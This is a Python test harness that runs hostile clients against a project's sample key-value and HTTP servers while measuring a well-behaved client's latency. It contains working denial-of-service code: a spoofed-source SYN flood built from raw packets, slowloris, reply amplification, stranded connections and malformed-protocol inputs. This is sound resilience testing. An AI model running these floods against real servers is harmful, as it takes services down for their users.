#!/usr/bin/env python3
"""Hostile clients for netstack's sample servers (issue 28), with a well-behaved client measured beside them.

Run inside the client network namespace a test (servers/tests/hostile.rs) or a person made; it sends only to the
server address it is given, and only for a bounded count and time.

    hostile_clients.py MODE --addr IP --port N --proto kv|http [options]

MODE is one of synflood, vanish, amplify, slowloris, garbage, good (the good client alone), or preload (kv: the
keys the attacks ask for). Each mode runs
its attack for --seconds while the good client asks the server for a small answer every --good-interval seconds
on one kept connection and opens a fresh connection for one request every tenth time; then it prints `name value`
lines: good_ok, good_failed, good_p50_ms, good_p99_ms, good_max_ms (the good client), and the attack's own
figures. Exit status 0 unless the tool itself failed (the caller judges the figures).
"""

import argparse
import ipaddress
import os
import random
import resource
import select
import socket
import struct
import subprocess
import sys
import threading
import time


def resp(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        a = a if isinstance(a, bytes) else str(a).encode()
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


def read_resp(f):
    """Reads one RESP2 reply from file `f`; returns it raw (enough to check it, not to decode nested arrays)."""
    line = f.readline()
    if not line:
        raise EOFError("connection closed")
    kind = line[:1]
    if kind in (b"+", b"-", b":"):
        return line
    if kind == b"$":
        n = int(line[1:])
        return line if n < 0 else line + f.read(n + 2)
    if kind == b"*":
        n = int(line[1:])
        parts = [line]
        for _ in range(max(n, 0)):
            parts.append(read_resp(f))
        return b"".join(parts)
    raise ValueError("bad reply %r" % line[:40])


def read_http(f):
    """Reads one HTTP/1.1 response (Content-Length body) from file `f`; returns (status line, body)."""
    status = f.readline()
    if not status:
        raise EOFError("connection closed")
    length = 0
    while True:
        line = f.readline()
        if not line:
            raise EOFError("connection closed in the head")
        if line in (b"\r\n", b"\n"):
            break
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    return status, f.read(length)


class Good:
    """The well-behaved client: one request at a time, latencies recorded."""

    def __init__(self, a):
        self.a = a
        self.lat = []
        self.failed = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def connect(self):
        s = socket.create_connection((self.a.addr, self.a.port), timeout=self.a.good_timeout)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return s, s.makefile("rb")

    def ask(self, s, f):
        if self.a.proto == "kv":
            s.sendall(resp("PING"))
            r = read_resp(f)
            if r != b"+PONG\r\n":
                raise ValueError("PING answered %r" % r[:40])
        else:
            s.sendall(b"GET /status HTTP/1.1\r\nHost: good\r\n\r\n")
            status, _ = read_http(f)
            if not status.startswith(b"HTTP/1.1 200"):
                raise ValueError("GET /status answered %r" % status[:40])

    def run(self):
        conn = None
        n = 0
        while not self.stop.is_set():
            t0 = time.monotonic()
            try:
                if n % 10 == 9:
                    s, f = self.connect()
                    self.ask(s, f)
                    s.close()
                else:
                    if conn is None:
                        conn = self.connect()
                    self.ask(*conn)
                self.lat.append((time.monotonic() - t0) * 1000)
            except Exception as e:  # the failure is the measurement
                self.failed.append("%.1fs: %r" % (time.monotonic() - START, e))
                if conn is not None:
                    conn[0].close()
                conn = None
            n += 1
            self.stop.wait(self.a.good_interval)
        if conn is not None:
            conn[0].close()

    def report(self):
        lat = sorted(self.lat)
        pct = lambda p: lat[min(len(lat) - 1, int(len(lat) * p))] if lat else -1
        print("good_ok %d" % len(lat))
        print("good_failed %d" % len(self.failed))
        print("good_p50_ms %.3f" % pct(0.50))
        print("good_p99_ms %.3f" % pct(0.99))
        print("good_max_ms %.3f" % (lat[-1] if lat else -1))
        for e in self.failed[:5]:
            print("good_error %s" % e)


START = time.monotonic()
HELD = []


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn_packet(src, dst, sport, dport, seq):
    """An IPv4 SYN with an MSS option; the kernel fills the IP checksum (IP_HDRINCL)."""
    opts = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (5 + len(opts) // 4) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def synflood(a):
    """Spoofed SYNs from addresses of --src (off the namespace: nobody answers the server's SYN-ACKs)."""
    net = ipaddress.ip_network(a.src)
    dst = socket.inet_aton(a.addr)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(28)
    sent = 0
    t0 = time.monotonic()
    while sent < a.count and time.monotonic() - t0 < a.seconds:
        # Paced to --count over --seconds (checked every 100 packets).
        if sent % 100 == 0:
            due = t0 + a.seconds * sent / a.count
            if due > time.monotonic():
                time.sleep(due - time.monotonic())
        src = (net.network_address + rng.randrange(1, net.num_addresses - 1)).packed
        raw.sendto(syn_packet(src, dst, rng.randrange(1024, 65535), a.port, rng.getrandbits(32)), (a.addr, 0))
        sent += 1
    print("syn_sent %d" % sent)
    print("syn_seconds %.2f" % (time.monotonic() - t0))
    rest = a.seconds - (time.monotonic() - t0)
    if rest > 0:
        time.sleep(rest)


def big_request(a):
    """A request whose reply is large (the test preloads `big` in kv; http serves a large page at /)."""
    return resp("GET", "big") if a.proto == "kv" else b"GET / HTTP/1.1\r\nHost: big\r\n\r\n"


def attacker(a, small_rcvbuf=False, timeout=10):
    """A connection of the attack, from --from-addr when given (so the server's sockets of the attack can be told
    from the good client's); a 4 KiB receive buffer keeps the server's replies unread in its own buffers."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if small_rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    if a.from_addr:
        s.bind((a.from_addr, 0))
    s.settimeout(timeout)
    s.connect((a.addr, a.port))
    return s


def vanish(a):
    """--count connections from --from-addr; --pending of them ask for a large reply they never read; then the
    address is removed from --dev, so the server's segments to it vanish (no RST, no FIN, no ACK); held open."""
    socks = []
    for i in range(a.count):
        s = attacker(a, small_rcvbuf=True)
        if i < a.pending:
            s.sendall(big_request(a))
        socks.append(s)
    # Let the pending replies fill the small windows before the client goes.
    time.sleep(0.5)
    subprocess.run(["ip", "addr", "del", a.from_addr + "/32", "dev", a.dev], check=True)
    print("vanished %d" % len(socks))
    print("vanished_pending %d" % min(a.pending, a.count))
    sys.stdout.flush()
    time.sleep(a.seconds)
    # The sockets stay open to the end (a close could still send a FIN); the namespace's removal takes them.
    HELD.extend(socks)


def amplify(a):
    """--count connections each pipeline --bytes of requests with large replies and never read."""
    req = (resp("LRANGE", "biglist", 0, -1) if a.proto == "kv" else b"GET / HTTP/1.1\r\nHost: amp\r\n\r\n")
    burst = req * max(1, a.bytes // len(req))
    socks = []
    for _ in range(a.count):
        s = attacker(a, small_rcvbuf=True)
        s.setblocking(False)
        socks.append([s, 0])
    sent_total = 0
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.seconds:
        busy = False
        for entry in socks:
            s, off = entry
            if off < len(burst):
                try:
                    n = s.send(burst[off:])
                    entry[1] += n
                    sent_total += n
                    busy = True
                except BlockingIOError:
                    pass
                except OSError:
                    entry[1] = len(burst)
        if not busy:
            time.sleep(0.05)
    print("amplify_bytes_sent %d" % sent_total)
    print("amplify_requests_sent %d" % (sent_total // len(req)))
    for s, _ in socks:
        s.close()


def slowloris(a):
    """--count connections each sending a request one byte per --interval seconds, never finishing it."""
    head = (b"*3\r\n$3\r\nSET\r\n$4\r\nslow\r\n$100000\r\n" if a.proto == "kv" else
            b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: ")
    socks = []
    for _ in range(a.count):
        try:
            s = attacker(a)
            s.sendall(head)
            s.setblocking(False)
            socks.append(s)
        except OSError:
            pass
    print("slowloris_opened %d" % len(socks))
    t0 = time.monotonic()
    closed = set()
    while time.monotonic() - t0 < a.seconds:
        for i, s in enumerate(socks):
            if i in closed:
                continue
            try:
                s.send(b"a")
            except OSError:
                closed.add(i)
        time.sleep(a.interval)
    print("slowloris_closed_by_server %d" % len(closed))
    for s in socks:
        s.close()


def garbage_cases(a):
    big = os.urandom(1 << 20)
    if a.proto == "kv":
        return [
            ("binary", bytes(range(256)) * 4, None),
            ("bad_bulk_len", b"*2\r\n$3\r\nGET\r\n$-7\r\n", b"-ERR"),
            ("oversize_bulk_then_more", b"*2\r\n$3\r\nSET\r\n$999999999999\r\n" + big, b"-ERR"),
            ("oversize_inline_then_more", b"A" * (70 << 10) + big, b"-ERR"),
            # redis-server's cross-protocol guard: closed without a reply.
            ("http_to_kv", b"POST / HTTP/1.1\r\nHost: x\r\n\r\n", None),
            ("huge_array_then_more", b"*99999999999\r\n" + big, b"-ERR"),
        ]
    hello = bytes.fromhex("16030100a5010000a10303") + os.urandom(32) + b"\x00" * 130
    return [
        ("tls_client_hello", hello, b"HTTP/1.1 400"),
        ("binary", bytes(range(256)) * 4, b"HTTP/1.1 400"),
        ("resp_to_http", resp("PING"), b"HTTP/1.1 400"),
        ("long_request_line_then_more", b"GET /" + b"a" * (1 << 20) + big, b"HTTP/1.1 431"),
        ("huge_body_then_more", b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 999999999\r\n\r\n" + big,
         b"HTTP/1.1 413"),
        ("bad_header_then_more", b"GET / HTTP/1.1\r\nHost: x\r\nBad Header\r\n\r\n" + big, b"HTTP/1.1 400"),
    ]


def drain(s):
    """What a non-blocking socket still holds to read, up to its end or reset."""
    got = b""
    while True:
        try:
            chunk = s.recv(65536)
        except OSError:
            return got
        if not chunk:
            return got
        got += chunk


def garbage(a):
    """Each case on its own connection: send, keep sending while the server lets us, and time how long until the
    server ends the connection (EOF or reset); the first reply bytes must be the expected error."""
    worst = 0.0
    problems = []
    rounds = 0
    t_end = time.monotonic() + a.seconds
    while True:
        for name, data, want in [c for c in garbage_cases(a) if c[0] not in a.skip]:
            s = attacker(a)
            s.setblocking(False)
            t0 = time.monotonic()
            off, got, ended = 0, b"", None
            while ended is None and time.monotonic() - t0 < a.close_bound:
                w = [s] if off < len(data) else []
                r, w, _ = select.select([s], w, [], 0.05)
                if w:
                    try:
                        off += s.send(data[off:off + 65536])
                    except BlockingIOError:
                        pass
                    except OSError:
                        # Reset: what arrived before it is still readable.
                        ended = time.monotonic()
                        got += drain(s)
                if r:
                    try:
                        chunk = s.recv(65536)
                        if not chunk:
                            ended = time.monotonic()
                        got += chunk
                    except BlockingIOError:
                        pass
                    except OSError:
                        ended = time.monotonic()
            took = (ended or time.monotonic()) - t0
            worst = max(worst, took)
            if ended is None:
                problems.append("%s: still open after %.1fs (sent %d bytes)" % (name, took, off))
            elif want is not None and not got.startswith(want):
                problems.append("%s: answered %r" % (name, got[:40]))
            s.close()
        rounds += 1
        if time.monotonic() >= t_end:
            break
    if a.proto == "http":
        problems += expect_continue(a)
    print("garbage_rounds %d" % rounds)
    print("garbage_close_max_ms %.1f" % (worst * 1000))
    print("garbage_problems %d" % len(problems))
    for p in problems[:10]:
        print("garbage_problem %s" % p)


def expect_continue(a):
    """`Expect: 100-continue`: the interim 100 must come before the body is sent, then the final response."""
    s = attacker(a, timeout=5)
    f = s.makefile("rb")
    s.sendall(b"POST /status HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nExpect: 100-continue\r\n\r\n")
    problems = []
    try:
        first = f.readline()
        if not first.startswith(b"HTTP/1.1 100"):
            problems.append("expect_100: first line %r" % first[:40])
        else:
            f.readline()
            s.sendall(b"hello")
            status, _ = read_http(f)
            if not status.startswith(b"HTTP/1.1 405"):
                problems.append("expect_100: final status %r" % status[:40])
    except Exception as e:
        problems.append("expect_100: %r" % e)
    s.close()
    return problems


def preload(a):
    """kv: `big` (a 1 MiB string) and `biglist` (--count elements of 64 bytes) for the attacks that need them."""
    if a.proto != "kv":
        return
    s = socket.create_connection((a.addr, a.port), timeout=10)
    f = s.makefile("rb")
    s.sendall(resp("SET", "big", b"b" * (1 << 20)) + resp("DEL", "biglist"))
    read_resp(f), read_resp(f)
    length = b""
    for start in range(0, a.count, 1000):
        s.sendall(resp("RPUSH", "biglist", *[b"%064d" % i for i in range(start, min(a.count, start + 1000))]))
        length = read_resp(f)
    print("preload_biglist %s" % length.strip().decode())
    s.close()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["good", "preload", "synflood", "vanish", "amplify", "slowloris", "garbage"])
    p.add_argument("--addr", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--proto", choices=["kv", "http"], required=True)
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--count", type=int, default=100)
    p.add_argument("--src", default="198.18.0.0/15", help="synflood: spoofed source network")
    p.add_argument("--from-addr", help="the namespace's extra address the attack's connections come from")
    p.add_argument("--dev", help="vanish: the namespace's interface holding --from-addr")
    p.add_argument("--pending", type=int, default=0, help="vanish: connections left with a large unread reply")
    p.add_argument("--bytes", type=int, default=44000, help="amplify: pipelined request bytes per connection")
    p.add_argument("--interval", type=float, default=1.0, help="slowloris: seconds between bytes")
    p.add_argument("--close-bound", type=float, default=10.0, help="garbage: longest wait for the server's close")
    p.add_argument("--skip", action="append", default=[], help="garbage: a case to leave out (repeatable)")
    p.add_argument("--good-interval", type=float, default=0.005)
    p.add_argument("--good-timeout", type=float, default=10.0)
    a = p.parse_args()
    # Enough descriptors for a thousand connections (within the hard limit).
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 8192)), hard))
    if a.mode == "vanish" and not (a.from_addr and a.dev):
        p.error("vanish needs --from-addr and --dev")
    if a.mode == "preload":
        preload(a)
        return
    good = Good(a)
    good.thread.start()
    time.sleep(0.2)
    if a.mode == "good":
        time.sleep(a.seconds)
    else:
        globals()[a.mode](a)
    good.stop.set()
    good.thread.join(a.good_timeout + 1)
    good.report()
    sys.stdout.flush()


if __name__ == "__main__":
    main()
